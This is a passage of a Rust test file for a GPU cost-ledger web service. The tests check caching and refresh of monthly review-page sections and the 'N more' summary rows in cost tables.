            "BilledCost,BillingAccountId,BillingCurrency,BillingPeriodStart,ChargeCategory,ChargePeriodEnd,ChargePeriodStart,EffectiveCost,ListCost,ServiceProviderName,ResourceId,x_InstanceType\n\
             98.32,acct,USD,{p},Usage,{e},{s},98.32,98.32,AWS,i-0c1c1c1c1c1c1c1c1,p4d.24xlarge\n",
            p = rfc3339(month),
            s = rfc3339(month + HOUR_MS),
            e = rfc3339(month + 4 * HOUR_MS),
        );
        crate::billing::import_focus(s, "old.csv", bill.into_bytes(), now_ms())
            .await
            .unwrap();
        let card = gpuledger_core::ratecard::RateCard::default_card();
        crate::rollup::run(s, &card, &Default::default(), usize::MAX)
            .await
            .unwrap();
        let label = chrono::DateTime::from_timestamp_millis(month)
            .unwrap()
            .format("%Y-%m")
            .to_string();
        let key = crate::sections::key(
            &gpuledger_core::scope::EVERY_TEAM,
            &gpuledger_core::owners::OwnerSchema::default(),
        );
        let kept = |section: &'static str| {
            let key = key.clone();
            async move {
                store::sections::section_snapshot(s.db(), (section, &key), (month, next))
                    .await
                    .unwrap()
            }
        };
        let sections = [
            "shape",
            "scale-to-zero",
            "idle-summary",
            "type-costs",
            "heatmap-top",
        ];
        for section in sections {
            assert!(kept(section).await.is_none(), "{b}: {section}");
        }
        // The week's shape, the purchase mix and scale-to-zero: what the kept sections feed.
        let buying = |page: &str| {
            let from = page.find("id=\"shape\"").unwrap_or(0);
            let to = page.find("id=\"scale-to-zero\"").unwrap_or(from);
            page[from..to].to_owned()
        };
        let (status, first) = api.get_as(&format!("/review/{label}"), Some(&admin)).await;
        assert_eq!(status, StatusCode::OK, "{b}");
        assert!(
            buying(&first).contains("p4d.24xlarge"),
            "{b}: {}",
            buying(&first)
        );
        for section in sections {
            assert!(
                kept(section).await.is_some(),
                "{b}: {section} kept on the first view"
            );
        }
        // So are the month's sums per group of hosts alike and owner (its tables: whoever sees
        // every team reads no host by name) and per day and team (its chart).
        for (section, key) in [("ledger-host-groups", "all"), ("ledger-days-by", "team")] {
            let kept = store::sections::section_snapshot(s.db(), (section, key), (month, next));
            assert!(kept.await.unwrap().is_some(), "{b}: {section}");
        }
        let (_, second) = api.get_as(&format!("/review/{label}"), Some(&admin)).await;
        assert_eq!(second, first, "{b}: read back as computed");
        // The page reads what is kept: a kept shape changed by hand shows.
        let shape = kept("shape").await.unwrap();
        let generation = store::sections::rollup_generation(s.db(), (month, next))
            .await
            .unwrap();
        store::sections::put_section_snapshot(
            s.db(),
            ("shape", &key),
            (month, next, false),
            (generation, now_ms()),
            &shape.replace("p4d.24xlarge", "p4d.kept"),
        )
        .await
        .unwrap();
        let (_, third) = api.get_as(&format!("/review/{label}"), Some(&admin)).await;
        assert!(buying(&third).contains("p4d.kept"), "{b}");

        crate::rollup::rebuild(
            s,
            &card,
            &Default::default(),
            month,
            next,
            crate::closing::ClosePolicy::default(),
            Some("a corrected bill"),
            now_ms(),
        )
        .await
        .unwrap();
        for section in sections {
            assert!(
                kept(section).await.is_none(),
                "{b}: {section} restated, read again"
            );
        }
        let (_, fourth) = api.get_as(&format!("/review/{label}"), Some(&admin)).await;
        assert!(buying(&fourth).contains("p4d.24xlarge"), "{b}");
        assert!(!buying(&fourth).contains("p4d.kept"), "{b}");
    }
}

/// The month under way's heaviest sections are computed ahead by a job and kept: served for
/// up to 10 minutes whatever the roll-up did since, then read again.
#[tokio::test]
async fn the_month_under_ways_sections_are_refreshed_by_a_job_and_kept_for_minutes() {
    use crate::sections::MAX_AGE_MS;
    for (api, _db) in apis().await {
        let b = api.backend;
        let s = api.store.as_ref();
        let (admin, _) = api.session("admin").await;
        fleet(&api).await;
        let (from, next) = month_of(at());
        let schema = gpuledger_core::owners::OwnerSchema::default();
        let key = crate::sections::key(&gpuledger_core::scope::EVERY_TEAM, &schema);
        let stored = |section: &'static str| {
            let key = key.clone();
            async move {
                store::sections::stored_section(s.db(), (section, &key), (from, next))
                    .await
                    .unwrap()
            }
        };
        let sections = [
            "shape",
            "scale-to-zero",
            "idle-summary",
            "type-costs",
            "heatmap-top",
        ];
        for section in sections {
            assert!(stored(section).await.is_none(), "{b}: {section}");
        }
        // What the job does every 5 minutes.
        crate::review_sections::refresh(s, &schema, from, now_ms())
            .await
            .unwrap();
        for section in sections {
            assert!(
                stored(section).await.is_some(),
                "{b}: {section} computed ahead"
            );
        }
        // A view reads them kept: a kept heatmap ranking changed by hand shows, even after a
        // roll-up has rewritten the month's latest hour.
        let ranking: (Vec<String>, usize) =
            serde_json::from_str(&stored("heatmap-top").await.unwrap().body).unwrap();
        assert!(!ranking.0.is_empty(), "{b}: {ranking:?}");
        let changed = serde_json::to_string(&(ranking.0, 4321)).unwrap();
        let put = |computed_ms: i64| {
            let (key, changed) = (key.clone(), changed.clone());
            async move {
                let generation = store::sections::rollup_generation(s.db(), (from, next))
                    .await
                    .unwrap();
                store::sections::put_section_snapshot(
                    s.db(),
                    ("heatmap-top", &key),
                    (from, next, false),
                    (generation, computed_ms),
                    &changed,
                )
                .await
                .unwrap();
            }
        };
        put(now_ms()).await;
        store::rollups::mark_dirty_hours(s.db(), &[hour_floor(at())])
            .await
            .unwrap();
        crate::test_support::roll_up(s).await;
        // And the viewer's own sections are the ones the job computed: a kept shape changed by
        // hand shows too.
        let shape = stored("shape").await.unwrap();
        assert!(shape.body.contains("g6.xlarge"), "{b}: {}", shape.body);
        let generation = store::sections::rollup_generation(s.db(), (from, next))
            .await
            .unwrap();
        store::sections::put_section_snapshot(
            s.db(),
            ("shape", &key),
            (from, next, false),
            (generation, shape.computed_ms),
            &shape.body.replace("g6.xlarge", "g6.kept"),
        )
        .await
        .unwrap();
        let path = format!("/review/{}", month());
        let review = || api.get_as(&path, Some(&admin));
        let (status, page) = review().await;
        assert_eq!(status, StatusCode::OK, "{b}");
        assert!(page.contains("of 4321 GPUs"), "{b}: the kept ranking read");
        assert!(page.contains("g6.kept"), "{b}: the kept shape read");
        assert!(page.contains("up to 10 minutes old"), "{b}: and said");

        // Older than 10 minutes: the view reads the month again, and keeps that.
        put(now_ms() - MAX_AGE_MS - 1).await;
        let (_, page) = review().await;
        assert!(!page.contains("4321"), "{b}: read again");
        let again = stored("heatmap-top").await.unwrap();
        assert!(!again.body.contains("4321"), "{b}: and kept");
        // The job leaves the month under way's that a view has just computed, and computes
        // afresh those as old as half its period.
        put(now_ms()).await;
        crate::review_sections::refresh(s, &schema, from, now_ms())
            .await
            .unwrap();
        assert!(
            stored("heatmap-top").await.unwrap().body.contains("4321"),
            "{b}: just computed, left"
        );
        put(now_ms() - crate::sections::FRESH_FOR_JOB_MS).await;
        crate::review_sections::refresh(s, &schema, from, now_ms())
            .await
            .unwrap();
        assert!(
            !stored("heatmap-top").await.unwrap().body.contains("4321"),
            "{b}: refreshed"
        );
    }
}

/// A table shows its costliest keys and sums the others into one row, to the cent; that row and
/// the table link to the CSV, which lists every key.
#[tokio::test]
async fn a_table_shows_its_costliest_keys_and_sums_the_rest() {
    let keep = crate::app::review::charts::TABLE_ROWS;
    for (api, _db) in apis().await {
        let (viewer, _) = api.session("viewer").await;
        let mut r = placed("rev-many");
        let gpu = &mut r.windows[0].gpus[0];
        gpu.util_avg = Some(100.0);
        gpu.util_max = Some(100.0);
        gpu.processes = (0..keep + 5)
            .map(|i| gpuledger_proto::ProcessWindow {
                pid: 100 + i as u32,
                memory_used_max_bytes: Some(10_000_000),
                sm_util_avg: Some(1.0 + i as f64 * 0.25),
                labels: [("experiment".to_string(), format!("exp-{i:02}"))].into(),
                ..Default::default()
            })
            .collect();
        let (status, body) = api
            .post(Some(&api.token), serde_json::to_vec(&r).unwrap())
            .await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&body));
        let card = gpuledger_core::ratecard::RateCard::default_card();
        crate::rollup::run(api.store.as_ref(), &card, &Default::default(), usize::MAX)
            .await
            .unwrap();

        let (status, page) = api
            .get_as(&format!("/review/{}", month()), Some(&viewer))
            .await;
        assert_eq!(status, StatusCode::OK, "{}", api.backend);
        let shown = &page_tables(&page)["experiment"];
        let all = api_rows(&api, &viewer, "experiment", "").await;
        assert!(all.len() > keep + 4, "{}: {all:?}", api.backend);
        assert_eq!(shown.len(), keep + 1, "{}: {shown:?}", api.backend);
        assert_eq!(shown[..keep], all[..keep], "{}", api.backend);
        // The rest: how many, and their exact sum.
        let v = month_allocation(&api, &viewer, "experiment", "").await;
        let rest: rust_decimal::Decimal = v["rows"].as_array().unwrap()[keep..]
            .iter()
            .map(|r| gpuledger_core::money::from_text(r["cost"].as_str().unwrap()))
            .sum();
        let last = &shown[keep];
        assert_eq!(
            last.0,
            format!("{} more", all.len() - keep),
            "{}",
            api.backend
        );
        assert_eq!(last.1, crate::format::usd(rest), "{}", api.backend);
        // It links to the table's CSV, where every key is.
        let doc = Html::parse_document(&page);
        let table = doc
            .select(&sel("table.spend[data-by=experiment]"))
            .next()
            .unwrap();
        let rest_link = table.select(&sel("tr.rest td.key a")).next().unwrap();
        let csv = rest_link.value().attr("href").unwrap();
        assert!(csv.ends_with("format=csv"), "{csv}");
        let (status, body) = api.get_as(csv, Some(&viewer)).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        for (key, ..) in &all {
            assert!(body.contains(key.as_str()), "{key} in the CSV: {body}");
        }
        // Tables with fewer keys than that have no such row.
        assert!(page_tables(&page)["cluster"]
            .iter()
            .all(|r| !r.0.ends_with(" more")));
        // The cluster's drill-down: the same table, and its costliest runs of the many.
        let (status, drill) = api
            .get_as(
                &format!("/review/{}/cluster?key=c1", month()),
                Some(&viewer),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{}", api.backend);
        let drilled = &page_tables(&drill)["experiment"];
        assert_eq!(drilled, shown, "{}", api.backend);
        let doc = Html::parse_document(&drill);
        let runs = doc.select(&sel("table.runs tbody tr")).count();
        assert_eq!(runs, crate::review_sections::TOP_ROWS, "{}", api.backend);
        let said = format!("{} runs: the {runs} costliest here", keep + 5);
        assert!(drill.contains(&said), "{}: {said}", api.backend);
    }
}
